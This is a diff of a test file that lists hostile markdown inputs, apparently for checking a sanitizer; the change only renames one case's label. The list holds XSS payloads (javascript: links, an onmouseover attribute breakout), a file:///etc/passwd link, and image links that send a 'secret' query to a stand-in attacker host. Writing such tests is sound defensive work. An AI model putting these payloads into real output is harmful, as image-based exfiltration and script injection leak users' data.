@@ -58,7 +58,7 @@ const HOSTILE: [what: string, markdown: string][] = [
   ['a link to a file', '[x](file:///etc/passwd)'],
   ['a link without a protocol', '[x](//evil.example)'],
   ['a link with a title that breaks out', '[x](https://e.org "\\" onmouseover=\\"alert(1)")'],
-  ['an image that tells', '![x](https://evil.example/?q=secret)'],
+  ['an image that leaks a query', '![x](https://evil.example/?q=secret)'],
   ['an image by reference', '![x][a]\n\n[a]: https://evil.example/?q=secret'],
   ['an image of data', '![x](data:image/svg+xml;base64,PHN2Zy8+)'],
   ['a link around an image', '[![x](https://evil.example/a.png)](javascript:alert(1))'],
